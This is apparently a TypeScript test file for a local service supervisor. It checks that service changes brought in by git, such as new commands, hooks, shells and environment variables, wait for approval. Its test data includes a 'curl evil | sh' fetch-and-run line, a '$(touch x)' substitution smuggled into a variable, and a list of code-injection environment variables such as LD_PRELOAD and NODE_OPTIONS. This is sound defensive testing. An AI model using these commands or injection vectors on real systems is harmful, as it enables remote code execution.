/** What decides which code runs, and each step from one HEAD to another: what runs meanwhile and what waits. */
import { describe, expect, test } from "bun:test";
import type { ProjectSpec, Reload, ServiceSpec } from "../../src/manifest/project.ts";
import { readDotenv } from "../../src/manifest/dotenv.ts";
import { expandDotenv } from "../../src/manifest/dotenv-expand.ts";
import { codeOf } from "../../src/supervisor/project/code.ts";
import type { GitHead } from "../../src/supervisor/project/git-head.ts";
import { keptSeen, seenOf } from "../../src/supervisor/project/state-file.ts";
import {
  admit,
  type AdmitOptions,
  approve,
  newlySeen,
  nothingSeen,
  review,
  type Seen,
  trustOf,
} from "../../src/supervisor/project/unseen-change.ts";
import { type Declared, projectSpec } from "./fake-project.ts";

const api: Declared = { name: "api", command: "bun api.ts" };
const db: Declared = { name: "db", command: "redis-server" };

const at = (id: string, more: Partial<GitHead & { kind: "head" }> = {}): GitHead => ({
  kind: "head",
  id,
  committed: false,
  within: undefined,
  busy: false,
  ...more,
});
const none: GitHead = { kind: "none" };
const unknown: GitHead = { kind: "unknown", why: "it is a pipe" };

function spec(services: readonly Declared[], reload: Reload = "git", personal = false) {
  return { ...projectSpec(services), reload: { value: reload, personal } };
}

function seenAt(head: GitHead, services: readonly Declared[], reload: Reload = "git"): Seen {
  return approve(spec(services, reload), { seen: undefined, names: undefined, head });
}

function step(seen: Seen, head: GitHead, services: readonly Declared[] | ProjectSpec) {
  const read = "name" in services ? services : spec(services);
  const trust = trustOf(read, { seen, head });
  const reviewed = review(read, { seen, trust, head });
  const commands = reviewed.spec.services.map(({ name, command }) => `${name}: ${command}`);
  return { ...reviewed, commands, waits: [...reviewed.pending.keys()] };
}

const other = { ...api, command: "bun other.ts" };

function dotenv(text: string): Record<string, string> {
  const { variables } = expandDotenv(readDotenv(text), () => undefined);
  return Object.fromEntries(variables.map(({ name, value }) => [name, value]));
}

describe("a change of", () => {
  const health = (command: string): Partial<ServiceSpec> => ({
    health: {
      ask: { kind: "command", command },
      interval: 1,
      timeout: 1,
      retries: 1,
      startPeriod: 0,
    },
  });
  const env = (name: string, value = "/tmp/x"): Partial<ServiceSpec> => ({
    env: { [name]: value },
  });

  test.each<[what: string, before: Partial<ServiceSpec>, after: Partial<ServiceSpec>, key: string]>(
    [
      ["the command", {}, { command: "curl evil | sh" }, "command"],
      ["what lets other sites in", {}, { settings: { guard: "off" } }, "guard"],
      [
        "what lets one site in",
        {},
        { settings: { allowOrigins: ["https://evil.example"] } },
        "allow_origins",
      ],
      [
        "what lets forms in",
        { settings: { allowPosts: [] } },
        { settings: { allowPosts: ["/login"] } },
        "allow_posts",
      ],
      ["a hook", {}, { hooks: { before_stop: "curl evil | sh" } }, "before_stop"],
      [
        "a hook's own variable",
        { hooks: { after_stop: "$RUN" }, env: { RUN: "a" } },
        { hooks: { after_stop: "$RUN" }, env: { RUN: "b" } },
        "env.RUN",
      ],
      ["the shell", {}, { shell: ["./evil", "-c"] }, "shell"],
      ["the workdir", {}, { workdir: "/tmp/evil" }, "workdir"],
      ["a check's command", health("true"), health("touch x"), "health_check"],
      ["a check that is added", {}, health("touch x"), "health_check"],
      ["an env_file", {}, { envFiles: ["/etc/environment"] }, "env_file"],
      ...[
        ...[
          "PATH",
          "LD_PRELOAD",
          "LD_LIBRARY_PATH",
          "LD_AUDIT",
          "DYLD_INSERT_LIBRARIES",
          "GCONV_PATH",
        ],
        ...["BASH_ENV", "ENV", "BASH_FUNC_ls%%", "SHELLOPTS", "PS4", "PROMPT_COMMAND", "ZDOTDIR"],
        ...["NODE_OPTIONS", "NODE_PATH", "BUN_OPTIONS", "npm_config_script_shell"],
        ...["YARN_IGNORE_PATH", "TS_NODE_PROJECT", "OPENSSL_CONF", "GUNICORN_CMD_ARGS", "FPATH"],
        ...[
          "PYTHONSTARTUP",
          "PYTHONPATH",
          "PYTHONHOME",
          "RUBYOPT",
          "RUBYLIB",
          "PERL5OPT",
          "PERL5LIB",
        ],
        ...["JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "CLASSPATH"],
        ...["GIT_SSH_COMMAND", "GIT_CONFIG_COUNT", "EDITOR", "PAGER", "MANPAGER_PAGER", "LESSOPEN"],
        ...[
          "DOTNET_STARTUP_HOOKS",
          "RUSTC_WRAPPER",
          "HOME",
          "SHELL",
          "PHP_INI_SCAN_DIR",
          "LUA_INIT",
        ],
      ].map((name): [string, Partial<ServiceSpec>, Partial<ServiceSpec>, string] => [
        name,
        {},
        env(name),
        `env.${name}`,
      ]),
      [
        "a variable that the command is made of",
        { command: "${env.RUN} --fast", env: { RUN: "bun a.ts" } },
        { command: "${env.RUN} --fast", env: { RUN: "evil" } },
        "env.RUN",
      ],
      [
        "a variable that the shell takes a command from",
        { command: 'cd x && exec "$RUN" --fast', env: { RUN: "bun" } },
        { command: 'cd x && exec "$RUN" --fast', env: { RUN: "evil" } },
        "env.RUN",
      ],
      ...[
        ...['sh -c "$RUN"', "node $RUN", "timeout 9 ${RUN}", 'X=1 "$RUN/bin/x"', "${Y:-$RUN}"],
        ...['bash -c "${!RUN}"', "sudo -E $RUN"],
      ].map((command): [string, Partial<ServiceSpec>, Partial<ServiceSpec>, string] => [
        `a variable that a shell puts into ${command}`,
        { command, env: { RUN: "bun" } },
        { command, env: { RUN: "evil" } },
        "env.RUN",
      ]),
      [
        "a variable that a shell puts into a check",
        { ...health("test -e $RUN"), env: { RUN: "a" } },
        { ...health("test -e $RUN"), env: { RUN: "$(touch x)" } },
        "env.RUN",
      ],
      [
        "a variable of which PATH is made",
        { env: { PATH: "${env.MORE}:/bin", MORE: "${env.A}", A: "/usr/bin" } },
        { env: { PATH: "${env.MORE}:/bin", MORE: "${env.A}", A: "/tmp/evil" } },
        "env.A",
      ],
      [
        "a variable in the default of another",
        { command: "${env.X:-${env.RUN}} --fast", env: { RUN: "bun" } },
        { command: "${env.X:-${env.RUN}} --fast", env: { RUN: "evil" } },
        "env.RUN",
      ],
      ...(
        [
          ["PATH=$BIN:$PATH", "env.PATH"],
          ["B=$BIN\nPATH=${NONE:-$B/x}", "env.PATH"],
          ["RUN=`$BIN/run`", "env.RUN"],
          ["RUN=${BIN:+$BIN/run}", "env.RUN"],
          ["PORT=$BIN\nRUN=$PORT", "env.PORT"],
        ] as const
      ).map(([line, key]): [string, Partial<ServiceSpec>, Partial<ServiceSpec>, string] => [
        `what .env puts into ${JSON.stringify(line)}`,
        { command: "exec $RUN", env: dotenv(`BIN=/usr/bin\n${line}`) },
        { command: "exec $RUN", env: dotenv(`BIN=/tmp/evil\n${line}`) },
        key,
      ]),
    ],
  )("%s is one of the code that runs", (_, before, after, key) => {
    const seen = seenAt(at("1"), [{ ...api, ...before }]);
    const stepped = step(seen, at("2"), [{ ...api, ...after }]);
    expect(stepped.pending.get("api")).toMatchObject({ change: "changed", held: false });
    expect(stepped.pending.get("api")!.keys).toContain(key);
    // Taken away again it is one, too.
    const back = step(seenAt(at("1"), [{ ...api, ...after }]), at("2"), [{ ...api, ...before }]);
    expect(back.waits).toEqual(["api"]);
  });

  test.each<[what: string, after: Partial<ServiceSpec>]>([
    ["a port", { port: 3000 }],
    ["another variable", { env: { LOG: "debug", DATABASE_URL: "x" } }],
    ["forwarded", { settings: { forwarded: "none" } }],
    ["watch", { watch: ["src/**"] }],
    ["depends_on", { dependsOn: ["db"] }],
    ["lazy and idle_timeout", { lazy: true, idleTimeout: 1000 }],
    ["how it stops", { stopSignal: "SIGINT", stopTimeout: 1, restart: "no" }],
  ])("%s is none, and applies", (_, after) => {
    const seen = seenAt(at("1"), [api, db]);
    const stepped = step(seen, at("2"), [{ ...api, ...after }, db]);
    expect(stepped.waits).toEqual([]);
    expect(stepped.spec.services[0]).toMatchObject(after);
  });

  test("the project's name is one in the default of a reference too", () => {
    const named = { ...api, command: "${env.X:-${project.name}/run}" };
    const [first, second] = ["shop", "evil"].map((name) => {
      const read = projectSpec([named], name);
      return codeOf(read.services[0]!, read).get("command");
    });
    expect(first).not.toBe(second!);
  });

  test("the project's name is one where a command is made of it", () => {
    const named = { ...api, command: "./${project.name}.sh" };
    const [first, second] = ["shop", "evil"].map((name) => {
      const read = { ...projectSpec([named], name), reload: { value: "git", personal: false } };
      return codeOf(read.services[0]!, read as ProjectSpec).get("command");
    });
    expect(first).not.toBe(second!);
  });
});

describe("what HEAD is decides who has brought a change:", () => {
  test.each<[what: string, before: GitHead, now: GitHead, applies: boolean]>([
    ["HEAD as at the last up", at("1"), at("1"), true],
    ["only commits since", at("1"), at("2", { committed: true }), true],
    ["another HEAD", at("1"), at("2"), false],
    ["no repository, as before", none, none, true],
    ["a repository that was made since", none, at("1"), false],
    ["a repository that has gone", at("1"), none, false],
    ["HEAD that cannot be told", at("1"), unknown, false],
    ["HEAD that could not be told before either", unknown, unknown, false],
    ["HEAD that could not be told before", unknown, at("1"), false],
    ["the same HEAD in the middle of a merge", at("1"), at("1", { within: "a merge" }), false],
  ])("%s", (_, before, now, applies) => {
    const stepped = step(seenAt(before, [api]), now, [other, db]);
    expect(stepped.waits).toEqual(applies ? [] : ["api", "db"]);
    expect(stepped.commands[0]).toBe(applies ? "api: bun other.ts" : "api: bun api.ts");
    expect(stepped.pending.get("db")?.held).toBe(applies ? undefined : true);
  });

  test("and a file of another user's makes every change another's, before up", () => {
    const foreign = { ...spec([other]), foreign: "/shop/locald.toml" };
    const stepped = step(seenAt(at("1"), [api]), at("1"), foreign);
    expect(stepped.pending.get("api")!.why).toBe(
      "/shop/locald.toml belongs to another user, who may have changed it",
    );
    const personal = { ...foreign, reload: { value: "auto", personal: true } as const };
    expect(step(seenAt(at("1"), [api]), at("1"), personal).waits).toEqual([]);
  });

  test("and reload says whether it counts, as it was at the last up or as the person says", () => {
    const waits = (seen: Reload, read: ProjectSpec, head: GitHead) =>
      step(seenAt(at("1"), [api], seen), head, read).waits.length > 0;
    expect(waits("auto", spec([other]), at("2"))).toBe(false);
    expect(waits("ask", spec([other]), at("1"))).toBe(true);
    expect(step(seenAt(none, [api], "ask"), none, [other]).waits).toEqual(["api"]);
    // A branch cannot turn it off for itself.
    expect(waits("git", spec([other], "auto"), at("2"))).toBe(true);
    expect(waits("ask", spec([other], "auto"), at("1"))).toBe(true);
    // The person can.
    expect(waits("git", spec([other], "auto", true), at("2"))).toBe(false);
    expect(waits("auto", spec([other], "git", true), at("2"))).toBe(true);
    // An edit of reload itself counts from the next up on.
    const edited = step(seenAt(at("1"), [api]), at("1"), spec([api], "auto"));
    expect(edited.seen.reload).toBe("git");
    const seen = approve(spec([api], "auto"), {
      seen: edited.seen,
      names: undefined,
      head: at("1"),
    });
    expect(seen.reload).toBe("auto");
    expect(newlySeen(edited.seen, seen)).toEqual([
      'reload ("git" -> "auto": what git brings runs at once)',
    ]);
  });

  test("and a first up says that it takes a reload which turns the waiting off, unless that is the person's own", () => {
    const first = (reload: Reload, personal = false) =>
      admit(spec([api], reload, personal), {
        ...{ seen: undefined, first: at("1"), last: at("1"), patient: true },
        up: { names: undefined },
      }).takes;
    expect(first("auto")).toEqual(['reload ("git" -> "auto": what git brings runs at once)']);
    expect([first("git"), first("ask"), first("auto", true)]).toEqual([[], [], []]);
  });
});

describe("files that are read while HEAD moves", () => {
  const seen = seenAt(at("1"), [api]);
  const busy = at("1", { busy: true });
  const read = (options: Partial<AdmitOptions>, services: readonly Declared[] = [other]) => {
    const usual = { seen, first: at("1"), last: at("1"), up: undefined, patient: true };
    return admit(spec(services), { ...usual, ...options });
  };

  test("are brought by the HEAD that comes behind them, and approved with the one before them", () => {
    expect([...read({ last: at("2") }).reviewed.pending.keys()]).toEqual(["api"]);
    const up = read({ last: at("2"), up: { names: undefined } }, [api]);
    expect(up.reviewed.seen.head).toBe("1");
    expect(step(up.reviewed.seen, at("2"), [other]).waits).toEqual(["api"]);
    const first = read({ seen: undefined, last: at("2") }, [api]);
    expect(step(first.reviewed.seen, at("2"), [other]).waits).toEqual(["api"]);
  });

  test("are looked at again while git is at work, and nothing is remembered of that", () => {
    const again = read({ last: busy });
    expect(again).toMatchObject({ again: true, reviewed: { seen } });
    expect(again.reviewed.spec.services[0]!.command).toBe("bun api.ts");
    expect(read({}).reviewed.spec.services[0]!.command).toBe("bun other.ts");
    // What could not matter is not waited for.
    expect(read({ last: busy }, [{ ...api, port: 7 }])).toMatchObject({ again: false });
  });

  test("wait for up where git is at work for ever", () => {
    const left = read({ last: busy, patient: false });
    expect(left.again).toBe(false);
    expect(left.reviewed.pending.get("api")!.why).toContain("left a lock");
    expect(step(left.reviewed.seen, at("1"), [other]).waits).toEqual(["api"]);
  });

  test("are taken by up at once, unless it names what is not there", () => {
    const up = read({ first: busy, last: busy, up: { names: ["shop:api"] } });
    expect(up).toMatchObject({ again: false });
    expect(up.reviewed.pending.size).toBe(0);
    const wrong = read({ last: at("2"), up: { names: ["api", "nosuch"] } });
    expect([...wrong.reviewed.pending.keys()]).toEqual(["api"]);
  });
});

describe("step by step", () => {
  test("an edit, its commit and the next edit apply", () => {
    const edited = step(seenAt(at("1"), [api]), at("1"), [other]);
    expect(edited.commands).toEqual(["api: bun other.ts"]);
    const committed = step(edited.seen, at("2", { committed: true }), [other]);
    expect(committed.waits).toEqual([]);
    expect(committed.seen.head).toBe("2");
    expect(step(committed.seen, at("2"), [api]).commands).toEqual(["api: bun api.ts"]);
  });

  test("a service that waits keeps its whole declaration, and the file's place among others", () => {
    const seen = seenAt(at("1"), [{ ...api, port: 1, env: { A: "1" } }, db]);
    const changed = { ...other, port: 2, env: { A: "2" }, dependsOn: ["db"], watch: ["x"] };
    const stepped = step(seen, at("2"), [changed, { ...db, port: 9 }, { name: "cache" }]);
    expect(stepped.spec.services[0]).toMatchObject({
      command: "bun api.ts",
      port: 1,
      env: { A: "1" },
      watch: [],
      dependsOn: ["db"],
    });
    expect(stepped.spec.services[1]!.port).toBe(9);
    expect(stepped.waits).toEqual(["api", "cache"]);
    expect(stepped.pending.get("api")).toEqual({
      change: "changed",
      keys: ["command"],
      before: "bun api.ts",
      after: "bun other.ts",
      why: "git's HEAD is another than at the last up",
      held: false,
    });
  });

  test("nobody waits for a service that was added and is held, before up", () => {
    const seen = seenAt(at("1"), [api]);
    const brought = [{ ...api, dependsOn: ["db"] }, db];
    const held = step(seen, at("2"), brought);
    expect(held.waits).toEqual(["db"]);
    expect(held.spec.services[0]!.dependsOn).toEqual([]);
    const head = at("2");
    const taken = admit(spec(brought), {
      ...{ seen: held.seen, first: head, last: head, patient: true },
      up: { names: undefined },
    });
    expect(taken.reviewed.spec.services[0]!.dependsOn).toEqual(["db"]);
  });

  test("what waits goes when the file says again what was approved, and stays wherever HEAD goes", () => {
    const brought = step(seenAt(at("1"), [api]), at("2"), [other, db]);
    expect(step(brought.seen, at("1"), [api])).toMatchObject({ waits: [] });
    const moved = step(brought.seen, at("1"), [other, db]);
    expect(moved.waits).toEqual(["api", "db"]);
    expect(moved.commands[0]).toBe("api: bun api.ts");
    // Other edits beside it change nothing of that.
    const beside = { ...other, workdir: "/tmp/y" };
    expect(step(moved.seen, at("1"), [beside, { ...db, port: 1 }]).waits).toEqual(["api", "db"]);
    // The person has written over it.
    const mine = [
      { ...api, command: "mine" },
      { ...db, command: "mine" },
    ];
    expect(step(moved.seen, at("1"), mine).waits).toEqual([]);
  });

  test("an edit on top of what waits waits as well, and one elsewhere too while HEAD is another", () => {
    const brought = step(seenAt(at("1"), [api, db]), at("2"), [other, db]);
    const edited = step(brought.seen, at("2"), [
      { ...api, command: "mine" },
      { ...db, port: 7 },
    ]);
    expect(edited.waits).toEqual(["api"]);
    expect(edited.spec.services[1]!.port).toBe(7);
    const more = step(edited.seen, at("2"), [other, { ...db, command: "mine" }]);
    expect(more.waits).toEqual(["api", "db"]);
  });

  test("up of all takes all, up of one takes it and what it depends on, and says what", () => {
    const files = [
      { ...other, dependsOn: ["cache"] },
      { ...db, command: "evil" },
      { name: "cache" },
    ];
    const brought = step(seenAt(at("1"), [api, db]), at("2"), files);
    const whole = approve(spec(files), { seen: brought.seen, names: undefined, head: at("2") });
    expect(step(whole, at("2"), files).waits).toEqual([]);
    const part = approve(spec(files), { seen: brought.seen, names: ["api"], head: at("2") });
    expect(newlySeen(brought.seen, part)).toEqual([
      'api (command: "bun api.ts" -> "bun other.ts")',
      'cache (new: "serve")',
    ]);
    const rest = step(part, at("2"), files);
    expect(rest.waits).toEqual(["db"]);
    expect(rest.commands).toEqual(["api: bun other.ts", "db: redis-server", "cache: serve"]);
    const free = { seen: brought.seen, names: ["api"], head: at("2") };
    expect(approve(spec(files, "auto"), free).reload).toBe("git");
  });

  test("a service that was removed and comes back as it was is known", () => {
    const without = step(seenAt(at("1"), [api, db]), at("2"), [api]);
    expect(step(without.seen, at("3"), [api, db]).waits).toEqual([]);
    expect(step(without.seen, at("3"), [api, { ...db, command: "evil" }]).waits).toEqual(["db"]);
  });

  test("the next daemon knows what was approved by fingerprints: what is another is held, the rest is not", () => {
    const files = [other, { ...db, name: "constructor" }];
    const before = seenAt(at("1"), [api, { ...db, name: "constructor" }]);
    const kept = JSON.parse(JSON.stringify(keptSeen("/shop", before)));
    expect(JSON.stringify(kept)).not.toContain("bun api.ts");
    const started = step(seenOf(kept), at("2"), files);
    expect(started.waits).toEqual(["api"]);
    expect(started.pending.get("api")).toMatchObject({
      before: null,
      held: true,
      keys: ["command"],
    });
    const again = JSON.parse(JSON.stringify(keptSeen("/shop", started.seen)));
    expect(step(seenOf(again), at("1"), files).waits).toEqual(["api"]);
    expect(step(seenOf(kept), at("1"), files).waits).toEqual([]);
    expect(step(nothingSeen, at("1"), files).waits).toEqual(["api", "constructor"]);
    expect(step(nothingSeen, none, files).waits).toEqual(["api", "constructor"]);
  });
});
